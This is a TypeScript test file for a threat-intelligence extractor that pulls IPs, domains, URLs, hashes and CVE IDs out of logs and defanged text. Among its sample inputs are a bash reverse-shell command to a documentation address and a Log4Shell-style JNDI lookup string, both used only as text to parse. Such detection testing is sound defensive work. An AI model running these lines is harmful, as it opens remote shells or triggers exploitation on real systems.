import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { normalise } from '../../../../../schemas/intelligence/entities/normalise.ts'
import { extractIndicators, extractor, leftOutWords } from '../../../../../schemas/intelligence/extract/extract.ts'
import { MAX_LINE, MAX_LINES_KEPT, MAX_VALUE } from '../../../../../schemas/intelligence/extract/indicator.ts'
import { detect } from '../../../../../schemas/intelligence/ingest/detect.ts'

const found = (text: string): string[] =>
  extractIndicators(text).indicators.map(({ type, value }) => `${type} ${value}`)
const SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
const MD5 = 'd41d8cd98f00b204e9800998ecf8427e'

const cases: [name: string, text: string, want: string[]][] = [
  [
    'a line of Apache: the address, the referrer and its host, no version of a browser',
    '198.51.100.7 - - [27/Nov/2026:10:00:00 +0000] "GET /index.php HTTP/1.1" 200 512 "https://www.evil.example/a?b=c" "Mozilla/5.0 (X11) Chrome/120.0.0.0"',
    ['url https://www.evil.example/a?b=c', 'hostname www.evil.example', 'ip 198.51.100.7'],
  ],
  ['sshd', 'Failed password for root from 203.0.113.9 port 22 ssh2', ['ip 203.0.113.9']],
  ['an address with a port, and one in brackets', '1.2.3.4:443 [2001:db8::1]:80', ['ip 1.2.3.4', 'ip 2001:db8::1']],
  [
    'an address behind a field',
    'src=1.2.3.4 dst:5.6.7.8 ip:2001:db8::2',
    ['ip 1.2.3.4', 'ip 5.6.7.8', 'ip 2001:db8::2'],
  ],
  ['an IPv4-mapped address', 'from ::ffff:198.51.100.9', ['ip 198.51.100.9']],
  ['networks', '203.0.113.9/24, 2001:db8:1::/48.', ['cidr 203.0.113.0/24', 'cidr 2001:db8:1::/48']],
  ['an address as Java writes it', 'src: /203.0.113.5:50010', ['ip 203.0.113.5']],
  ['a host and its address', 'evil.com/203.0.113.5:443', ['domain evil.com', 'ip 203.0.113.5']],
  ['a shell over the network', 'bash -i >& /dev/tcp/203.0.113.6/4444 0>&1', ['ip 203.0.113.6']],
  ['a connection of a firewall', 'outside:203.0.113.7/22 denied', ['ip 203.0.113.7']],
  ['a user at an address', 'ssh root@203.0.113.8', ['ip 203.0.113.8']],
  ['addresses that are not public', 'from 10.0.0.1 to 127.0.0.1 by 192.168.0.0/16', []],
  ['times, dates and numbers', '10:00:00 2026-11-27 1.2.3 1.2.3.4.5 300.1.1.1 12.5', []],
  ['versions', 'version 1.2.3.4, v1.2.3.4, "version":"1.2.3.4", Firmware: 1.2.3.4', []],
  [
    'words of code',
    'std::dec abc::def com.example.Foo java.util.name System.IO ASP.NET node.js e.g. i.e. U.S. foo.name("x")',
    [],
  ],
  [
    'names of files',
    'index.php evil.exe access.log install.sh main.rs:12 README.md libfoo.so C:\\a\\command.com archive.zip',
    [],
  ],
  ['names of fields', '{"event.id":"x","host.name":"web-1"} user.name=root', []],
  ['top-level domains that there are not', 'foo.bar1 evil.notatld localhost.localdomain co.uk', []],
  [
    'a name at the end of a sentence',
    'It called evil.com. Then (bad.org), "worse.net"!',
    ['domain evil.com', 'domain bad.org', 'domain worse.net'],
  ],
  ['a host below a name', 'DNS: a.b.evil.co.uk:53', ['hostname a.b.evil.co.uk']],
  [
    'a name that could be a file, where the text says that it is a name',
    'install[.]sh http://main.rs/ a@b.zip',
    ['url http://main.rs/', 'domain install.sh', 'domain main.rs', 'email-address a@b.zip', 'domain b.zip'],
  ],
  ['names of other scripts', 'münchen.de и версия.рф', ['domain xn--mnchen-3ya.de', 'domain xn--b1agj5af9f.xn--p1ai']],
  ['a name in a text without spaces', '攻击者使用evil.net进行攻击', ['domain evil.net']],
  [
    'defanged',
    'hxxps[:]//evil[.]com/a bad (dot) org 1[.]2[.]3[.]5 203[.0[.113[.7 worse\\.net x{.}org',
    [
      'url https://evil.com/a',
      'domain evil.com',
      'domain bad.org',
      'ip 1.2.3.5',
      'ip 203.0.113.7',
      'domain worse.net',
      'domain x.org',
    ],
  ],
  [
    'mail addresses',
    '<foo.bar+x@Evil.com>, user [at] mail [dot] com, mailto:a@b.org, @name, a@b',
    [
      'email-address foo.bar+x@evil.com',
      'domain evil.com',
      'email-address user@mail.com',
      'domain mail.com',
      'email-address a@b.org',
      'domain b.org',
    ],
  ],
  [
    'URLs in brackets, quotes and Markdown',
    '[t](https://a-b.io/p(1)) <http://x.de/> "http://y.fr/a," (see http://z.it/b).',
    [
      'url https://a-b.io/p(1)',
      'domain a-b.io',
      'url http://x.de/',
      'domain x.de',
      'url http://y.fr/a',
      'domain y.fr',
      'url http://z.it/b',
      'domain z.it',
    ],
  ],
  [
    'cells of a table',
    'http://a.com/x,malware,2026\nseen,http://b.com/y,1',
    ['url http://a.com/x', 'domain a.com', 'url http://b.com/y', 'domain b.com'],
  ],
  [
    'a URL without a scheme',
    'GET evil.com/a/b.php?c=d&e=f now',
    ['url http://evil.com/a/b.php?c=d&e=f', 'domain evil.com'],
  ],
  ['a URL of an address', 'u={jndi:ldap://9.9.9.9:1389/a}', ['url ldap://9.9.9.9:1389/a', 'ip 9.9.9.9']],
  ['a URL in a query', 'u=http%3A%2F%2Fevil.com%2Fx', ['domain evil.com']],
  ["URLs of one's own network", 'http://localhost:8080/a http://intranet/b http://10.0.0.1/ http://nas.local/', []],
  [
    'JSON lines',
    '{"url":"http:\\/\\/a.com\\/b","text":"line\\nb.org \\u0022c.net\\u0022"}',
    ['url http://a.com/b', 'domain a.com', 'domain b.org', 'domain c.net'],
  ],
  [
    'digests',
    `${MD5} ${SHA256.toUpperCase()} sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709, ${SHA256}.exe`,
    [`md5 ${MD5}`, `sha256 ${SHA256}`, 'sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709'],
  ],
  [
    'no digests',
    `${MD5}0 550e8400-e29b-41d4-a716-446655440000 0x${MD5} 00-${MD5}-00f067aa0ba902b7-01 ${'1'.repeat(32)} ${'a'.repeat(40)}`,
    [],
  ],
  [
    'a digest in a URL',
    `https://www.virustotal.com/file/${SHA256}`,
    [`sha256 ${SHA256}`, `url https://www.virustotal.com/file/${SHA256}`, 'hostname www.virustotal.com'],
  ],
  [
    'CVE numbers',
    'CVE-2021-44228, (cve_2026_12345) xcve-2021-1234 CVE-2021-12',
    ['cve cve-2021-44228', 'cve cve-2026-12345'],
  ],
]

describe('a line', () => {
  for (const [name, text, want] of cases) test(name, () => expect(found(text).toSorted()).toEqual([...want].toSorted()))
})

test('the lines are kept with the first of them, and each is counted', () => {
  const text = `first 1.2.3.4\r\nnothing\rthen 1.2.3.4 and 1.2.3.4\n${'1.2.3.4\n'.repeat(100)}`
  const { indicators, lines } = extractIndicators(text)
  expect(indicators).toEqual([
    { type: 'ip', value: '1.2.3.4', count: 103, text: 'first 1.2.3.4', lines: expect.any(Array) },
  ])
  expect(indicators[0]!.lines.slice(0, 3)).toEqual([1, 3, 4])
  expect(indicators[0]!.lines).toHaveLength(MAX_LINES_KEPT)
  expect(lines).toBe(103)
})

test('what is left out is counted and told', () => {
  const { indicators, left } = extractIndicators(
    `10.0.0.1 a.com b.com c.com http://d.com/${'x'.repeat(MAX_VALUE)}\n${' '.repeat(MAX_LINE)}e.com`,
    { most: 2 },
  )
  expect(indicators).toHaveLength(2)
  expect(left).toEqual({ notPublic: 1, tooLong: 1, tooMany: 2, cutLines: 1 })
  expect(leftOutWords(left)).toEqual([
    '1 address that is not public',
    '1 value that is too long',
    '2 indicators after the last that has room',
    '1 line after its first million characters',
  ])
  expect(leftOutWords({ notPublic: 0, tooLong: 0, tooMany: 0, cutLines: 0 })).toEqual([])
})

/** What an indicator may stand between without becoming another one. */
const NOISE = fc.stringMatching(/^(?:[ ,;|<>"!?*]|word |and ){0,10}$/)
const label = fc.stringMatching(/^[a-z][a-z0-9]{3,8}$/)
const octet = fc.integer({ min: 0, max: 255 })
const indicator = fc.oneof(
  fc.tuple(fc.integer({ min: 1, max: 9 }), octet, octet, octet).map((parts) => parts.join('.')),
  fc.tuple(label, fc.constantFrom('com', 'org', 'co.uk', 'example')).map((parts) => parts.join('.')),
  fc.tuple(label, label).map(([host, path]) => `https://${host}.com/${path}`),
  fc.tuple(label, label).map(([who, host]) => `${who}@${host}.org`),
  fc.stringMatching(/^[0-9][0-9a-f]{30}[a-f]$/),
  fc
    .tuple(fc.integer({ min: 1999, max: 2026 }), fc.integer({ min: 1_000, max: 99_999 }))
    .map(([y, n]) => `CVE-${y}-${n}`),
)
const defanged = (value: string): string => value.replaceAll('.', '[.]').replace('http', 'hxxp').replace('@', '[at]')

test('an indicator in noise is found with its line, defanged or not', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(NOISE, indicator, NOISE, fc.boolean()), { minLength: 1, maxLength: 8 }), (lines) => {
      const text = lines.map(([a, value, b, fanged]) => `${a} ${fanged ? value : defanged(value)} ${b}`).join('\n')
      const { indicators } = extractIndicators(text)
      lines.forEach(([, value], index) => {
        const { type, value: normal } = detect(value)!
        const one = indicators.find((each) => each.type === type && each.value === normal)
        expect(one?.lines, `${value} in ${text}`).toContain(index + 1)
      })
    }),
    { numRuns: 500 },
  )
})

test('a text without dots, colons and digests has no indicator', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme', maxLength: 500 }), (text) => {
      expect(found(text.replace(/[.:\p{P}\p{S}\p{N}\p{C}]/gu, ' '))).toEqual([])
    }),
  )
})

test('every value is in the normal form of its type, whatever the text', () => {
  const piece = fc.oneof(
    indicator,
    fc.constantFrom('.', '/', ':', '@', '://', '[', ']', '(', ')', '[.]', '%2F', '\\', '-', '中', 'ü', '::', 'http://'),
    fc.string(),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
      for (const { type, value } of extractIndicators(pieces.join('')).indicators)
        expect(normalise(type, value)).toBe(value)
    }),
    { numRuns: 2_000 },
  )
})

test('the reader of lines and the reader of a text agree', () => {
  const reading = extractor()
  for (const line of ['a.com 10.0.0.1', '', 'b.com']) reading.line(line)
  expect(reading.found()).toEqual(extractIndicators('a.com 10.0.0.1\n\nb.com'))
})
